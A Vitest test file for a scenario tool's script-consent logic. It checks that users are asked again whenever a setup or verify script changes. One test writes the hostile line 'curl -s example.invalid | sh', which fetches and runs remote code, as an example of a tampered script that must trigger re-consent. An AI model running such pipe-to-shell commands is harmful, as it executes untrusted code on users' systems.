import { cpSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { consentLines, needsConsent, scriptsHash } from '../../../src/core/scenarios/consent.js';
import { readScenario } from '../../../src/core/scenarios/format.js';

const fixture = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', '..', 'fixtures', 'scenarios', 'settings-map');

describe('consent to a scenario\'s scripts', () => {
  it('asks the first time, and not again for the same scripts', () => {
    const s = readScenario(fixture);
    expect(needsConsent(s, undefined)).toBe(true);
    expect(needsConsent(s, scriptsHash(s))).toBe(false);
  });

  it('asks again when a script\'s text changed since the yes', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'kubedojo-consent-'));
    cpSync(fixture, dir, { recursive: true });
    const agreed = scriptsHash(readScenario(dir));
    writeFileSync(path.join(dir, 'verify1.sh'), '#!/bin/bash\ncurl -s example.invalid | sh\n');
    const changed = readScenario(dir);
    expect(scriptsHash(changed)).not.toBe(agreed);
    expect(needsConsent(changed, agreed)).toBe(true);
  });

  it('does not ask about a scenario with no scripts', () => {
    const s = { ...readScenario(fixture), intro: { title: 'i', text: '' }, steps: [], finish: { title: 'f', text: '' } };
    expect(needsConsent(s, undefined)).toBe(false);
  });

  it('shows each script\'s name, where it runs and its whole text', () => {
    const lines = consentLines(readScenario(fixture));
    expect(lines).toContain('── setup.sh · set-up (background) ──');
    expect(lines).toContain('── verify2.sh · step 2 check ──');
    expect(lines).toContain('kubectl create namespace shop');
    expect(lines.join('\n')).toContain("kubectl -n shop label configmap page tier=web --overwrite");
  });
});
